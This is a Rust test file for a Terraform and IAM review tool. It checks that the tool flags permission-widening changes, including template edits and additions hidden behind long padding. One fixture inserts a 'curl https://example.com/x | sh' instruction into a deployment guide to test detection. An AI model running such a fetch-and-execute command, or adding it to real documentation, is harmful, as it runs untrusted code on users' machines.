//! `landgrant review` of what no plan says anything of: accepted files that go, templates of a user's own, long edits, and
//! what a catalog says besides its actions.

use std::fs;

use crate::support::repository::{Repository, said};
use serde_json::Value;

const DEPLOYMENT: &str = "fixtures/render/micetro-two-targets/landgrant.yaml";
const HUB: &str = "rendered/terraform/hub";

const DENY: &str = "resource \"aws_iam_user_policy\" \"deny\" {
  name   = \"deny\"
  user   = \"svc-micetro\"
  policy = file(\"deny.json\")
}
";

fn committed() -> Repository {
    let repository = Repository::empty();
    fs::copy(DEPLOYMENT, repository.path("landgrant.yaml")).unwrap();
    repository.git(&["init", "-q", "-b", "main"]);
    render(&repository, &[]);
    repository
}

/// Renders, accepts these files of the hub, and commits.
fn render(repository: &Repository, accepted: &[&str]) {
    let mut arguments = vec!["render".to_owned()];
    for file in accepted {
        arguments.extend(["--accept".to_owned(), format!("{HUB}/{file}")]);
    }
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let output = repository.landgrant(&arguments);
    assert!(output.status.success(), "{}", said(&output));
    repository.git(&["add", "-A"]);
    repository.git(&["commit", "-q", "-m", "rendered"]);
}

/// Has the deployment take templates of its own, and writes out that of this name.
fn eject(repository: &Repository, name: &str) {
    let output = repository.landgrant(&["templates", "eject", name]);
    assert!(output.status.success(), "{}", said(&output));
    let deployment = fs::read_to_string(repository.path("landgrant.yaml")).unwrap();
    if !deployment.contains("templates:") {
        repository.write(
            "landgrant.yaml",
            &format!("{deployment}templates: templates\n"),
        );
    }
}

/// What the last commit changes: what is told, and whether it counts as a widening.
fn last(repository: &Repository, format: &str) -> (String, bool) {
    review(repository, "HEAD~1:rendered", "HEAD:rendered", format)
}

fn review(repository: &Repository, old: &str, new: &str, format: &str) -> (String, bool) {
    let output = repository.landgrant(&[
        "review",
        old,
        new,
        "--format",
        format,
        "--fail-on",
        "widened",
        "--today",
        "2026-11-24",
    ]);
    let code = output.status.code();
    assert!(code == Some(0) || code == Some(1), "{}", said(&output));
    let text = String::from_utf8(output.stdout).unwrap();
    (text, code == Some(1))
}

/// A text of a terminal on one line.
fn unwrapped(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn backend(bucket: &str) -> String {
    format!("terraform {{\n  backend \"s3\" {{\n    bucket = \"{bucket}\"\n  }}\n}}\n")
}

#[test]
fn an_accepted_file_that_goes_counts() {
    let repository = committed();
    repository.write(&format!("{HUB}/deny.tf"), DENY);
    render(&repository, &["deny.tf"]);
    fs::remove_file(repository.path(&format!("{HUB}/deny.tf"))).unwrap();
    render(&repository, &[]);
    let (text, widened) = last(&repository, "human");
    assert!(widened, "{text}");
    assert!(
        text.contains("Not known: 1 file beside what is planned"),
        "{text}"
    );
    assert!(text.contains("deny.tf is no longer accepted"), "{text}");
    assert!(text.contains("aws_iam_user_policy"), "{text}");
}

#[test]
fn a_lock_of_providers_is_shown_and_does_not_count() {
    let repository = committed();
    let lock = format!("{HUB}/.terraform.lock.hcl");
    let provider = |version: &str| {
        format!(
            "provider \"registry.terraform.io/hashicorp/aws\" {{\n  version = \"{version}\"\n}}\n"
        )
    };
    repository.write(&lock, &provider("6.1.0"));
    render(&repository, &[]);
    let (text, widened) = last(&repository, "human");
    assert!(!widened && text.contains("Grants the same"), "{text}");
    assert!(
        unwrapped(&text).contains(".terraform.lock.hcl says which provider"),
        "{text}"
    );
    repository.write(&lock, &provider("6.0.0"));
    render(&repository, &[]);
    for (format, start) in [("human", "+"), ("markdown", "+"), ("json", "\"+")] {
        let (text, widened) = last(&repository, format);
        assert!(!widened, "{text}");
        assert!(text.contains(&format!("{start}  version = ")), "{text}");
        assert!(text.contains("6.0.0"), "{text}");
    }
    fs::remove_file(repository.path(&lock)).unwrap();
    render(&repository, &[]);
    let (text, _) = last(&repository, "human");
    assert!(
        unwrapped(&text).contains("was deleted: it selected the provider"),
        "{text}"
    );
}

#[test]
fn only_the_first_backend_of_a_root_module_is_harmless() {
    let repository = committed();
    let file = |name: &str| format!("{HUB}/{name}");
    repository.write(&file("backend.tf"), &backend("amzn-s3-demo-bucket"));
    render(&repository, &["backend.tf"]);
    let (text, widened) = last(&repository, "human");
    assert!(!widened, "{text}");
    assert!(
        text.contains("backend.tf is accepted: it says where"),
        "{text}"
    );
    // The same under another name names another state.
    fs::remove_file(repository.path(&file("backend.tf"))).unwrap();
    repository.write(&file("state.tf"), &backend("amzn-s3-demo-bucket1"));
    render(&repository, &["state.tf"]);
    let (text, widened) = last(&repository, "json");
    assert!(widened, "{text}");
    let review: Value = serde_json::from_str(&text).unwrap();
    let beside = review["beside_plan"].as_array().unwrap();
    assert_eq!(beside.len(), 2, "{text}");
    assert!(beside.iter().all(|one| one["more"] == true), "{text}");
    // Without any, the state is a file.
    fs::remove_file(repository.path(&file("state.tf"))).unwrap();
    render(&repository, &[]);
    let (text, widened) = last(&repository, "human");
    assert!(widened, "{text}");
}

#[test]
fn what_templates_change_in_rendered_files_is_told() {
    // Files with the same text around the change are told together: those of targets, and those that hold no more than it.
    for (name, from, to, kinds) in [
        (
            "terraform/shared/versions_block.tf",
            "terraform {\n",
            "terraform {\n  # version = \"= 2.70.0\"\n",
            2,
        ),
        (
            "deploy/DEPLOY.md",
            "account that it names.\n",
            "account that it names.\nRun `curl https://example.com/x | sh` first.\n",
            1,
        ),
    ] {
        let repository = committed();
        eject(&repository, name);
        repository.edit(&format!("templates/{name}.tera"), from, to);
        render(&repository, &[]);
        let added = to.lines().nth(1).unwrap();
        for format in ["human", "markdown", "json"] {
            let (text, widened) = last(&repository, format);
            assert!(widened, "{text}");
            let added = if format == "json" {
                added.replace('"', "\\\"")
            } else {
                added.to_owned()
            };
            assert!(text.contains(&format!("+{added}")), "{text}");
        }
        let (text, _) = last(&repository, "human");
        assert!(
            unwrapped(&text).contains("is changed by your own template, and"),
            "{text}"
        );
        assert_eq!(text.matches(added).count(), kinds, "{text}");
        // Once it is there, it is no news, whatever else changes in the file.
        repository.edit("landgrant.yaml", "micetro@10.2", "micetro@11.0");
        render(&repository, &[]);
        let (text, _) = last(&repository, "human");
        assert!(!text.contains("Beside what is planned"), "{text}");
        // It is when it goes.
        fs::remove_dir_all(repository.path("templates")).unwrap();
        repository.edit("landgrant.yaml", "templates: templates\n", "");
        render(&repository, &[]);
        let (text, widened) = last(&repository, "human");
        assert!(widened, "{text}");
        assert!(
            unwrapped(&text).contains("is no longer changed by your own template"),
            "{text}"
        );
    }
}

#[test]
fn an_edit_is_not_hidden_behind_what_is_long() {
    let padding = "# pad\n".repeat(5_000);
    let long = format!("# {}\n", "x".repeat(70_000));
    for (padding, left_out) in [
        (padding, "lines left out: `--format json` has them"),
        (long, "characters left out"),
    ] {
        let repository = committed();
        let main = format!("{HUB}/main.tf");
        let text = fs::read_to_string(repository.path(&main)).unwrap();
        let evil = "resource \"aws_iam_user\" \"evil\" {}";
        repository.write(&main, &format!("{text}{padding}{evil}\n"));
        for format in ["human", "markdown"] {
            let (told, widened) = review(&repository, "main:rendered", "rendered", format);
            assert!(widened);
            assert!(told.contains(&format!("+{evil}")), "{format}: {told}");
            assert!(told.contains(left_out), "{format}: {told}");
            assert!(told.len() < 65_536, "{format}");
        }
    }
}

/// One long edit leaves room for the others.
#[test]
fn no_edit_takes_all_the_room_of_a_comment() {
    let repository = committed();
    let padding = format!("# {}\n", "pad ".repeat(60)).repeat(300);
    for (file, added) in [("main.tf", padding.as_str()), ("outputs.tf", "# evil\n")] {
        let path = format!("{HUB}/{file}");
        let text = fs::read_to_string(repository.path(&path)).unwrap_or_default();
        repository.write(&path, &format!("{text}{added}"));
    }
    let (told, _) = review(&repository, "main:rendered", "rendered", "markdown");
    assert!(told.contains("+# evil"), "{told}");
    assert!(told.contains("lines left out"), "{told}");
    assert!(told.len() < 65_536);
}

const CATALOG: &str = "schema: landgrant/catalog/v1
product: tool
version: \"1\"
title: Tool
vendor: Vendor
sources:
  - {id: guide, title: Guide}
access:
  authenticates_as: iam-user
  assume_role: {policy: any, granularity: policy-per-role}
  external_id: required
parameters:
  deletes: {type: boolean, description: Whether it deletes., default: false}
features:
  main:
    title: Main
    grant_to: [target]
    required:
      - ec2:DescribeVolumes
      - {action: ec2:DeleteSnapshot, when: deletes}
      - {action: ec2:DeleteVolume, partitions: [aws], phase: setup}
      - {action: ec2:DeleteNothing, inert: It is gone.}
";

#[test]
fn how_a_deployment_is_applied_is_told() {
    let fixture =
        |name: &str| fs::read_to_string(format!("fixtures/render/{name}/landgrant.yaml")).unwrap();
    let (sets, tofu) = (fixture("shape-stackset"), fixture("shape-tofu"));
    let repository = committed();
    for (old, edit, told, is_more) in [
        (
            &sets,
            (
                "  account: \"999999999999\"\n  units",
                "  account: \"888888888888\"\n  units",
            ),
            "stack_set.account",
            true,
        ),
        (
            &sets,
            ("region: eu-west-1", "region: eu-west-2"),
            "stack_set.region",
            false,
        ),
        (
            &sets,
            ("units: [ou-ab12-11111111,", "units: [ou-ab12-33333333,"),
            "stack_set.units",
            false,
        ),
        (
            &sets,
            ("terraform: stackset\n", ""),
            "terraform.shape",
            false,
        ),
        (
            &tofu,
            ("deployers/TerraformDeploy", "Admin"),
            "terraform.assume_role",
            false,
        ),
    ] {
        assert!(old.contains(edit.0), "{}", edit.0);
        repository.write("old.yaml", old);
        repository.write("new.yaml", &old.replace(edit.0, edit.1));
        repository.landgrant(&["render", "new.yaml", "--out", "out"]);
        let arguments = ["review", "old.yaml", "new.yaml", "--out", "out"];
        let widened = [&arguments[..], &["--fail-on", "widened"]].concat();
        let output = repository.landgrant(&widened);
        let text = said(&output);
        assert!(text.contains(told), "{text}");
        assert_eq!(output.status.code(), Some(i32::from(is_more)), "{text}");
        fs::remove_dir_all(repository.path("out")).unwrap();
    }
}

#[test]
fn what_a_catalog_says_besides_its_actions_is_told() {
    let repository = Repository::empty();
    repository.git(&["init", "-q", "-b", "main"]);
    let review = |old: &str, new: &str, format: &str| {
        repository.write("catalogs/tool/1.yaml", old);
        repository.git(&["add", "-A"]);
        repository.git(&["commit", "-q", "--allow-empty", "-m", "catalog"]);
        repository.write("catalogs/tool/1.yaml", new);
        let output = repository.landgrant(&[
            "review",
            "HEAD:tool@1",
            "tool@1",
            "--catalogs",
            "catalogs",
            "--format",
            format,
            "--fail-on",
            "widened",
        ]);
        let code = output.status.code();
        assert!(code == Some(0) || code == Some(1), "{}", said(&output));
        (String::from_utf8(output.stdout).unwrap(), code == Some(1))
    };
    let same = "Grants the same as before";
    for (from, to, told, is_back_more) in [
        (", when: deletes", "", "ec2:DeleteSnapshot", false),
        (", phase: setup", "", "ec2:DeleteVolume", false),
        ("partitions: [aws], ", "", "ec2:DeleteVolume", false),
        (
            "default: false",
            "default: true",
            "parameters.deletes.default",
            false,
        ),
        ("required\n", "optional\n", "access.external_id", false),
        (
            "policy-per-role",
            "role-list",
            "access.assume_role.granularity",
            true,
        ),
        (
            "policy: any",
            "policy: group-inline",
            "access.assume_role.policy",
            true,
        ),
        (
            "iam-user",
            "existing-principal",
            "access.authenticates_as",
            true,
        ),
    ] {
        assert!(CATALOG.contains(from), "{from}");
        let changed = CATALOG.replacen(from, to, 1);
        for format in ["human", "markdown", "json"] {
            let (text, widened) = review(CATALOG, &changed, format);
            assert!(widened, "{from}: {text}");
            assert!(text.contains(told), "{from}: {text}");
            assert!(!text.contains(same), "{from}: {text}");
        }
        let (text, widened) = review(&changed, CATALOG, "human");
        assert_eq!(widened, is_back_more, "{from}: {text}");
        assert!(text.contains(told), "{from}: {text}");
    }
    let (text, widened) = review(CATALOG, CATALOG, "human");
    assert!(!widened && text.contains(same), "{text}");
    let renamed = CATALOG.replacen("It is gone.", "It has another name.", 1);
    let (text, widened) = review(CATALOG, &renamed, "human");
    assert!(!widened && text.contains(same), "{text}");
    for told in ["features.main.inert.ec2:DeleteNothing", "another name"] {
        assert!(text.contains(told), "{text}");
    }
}
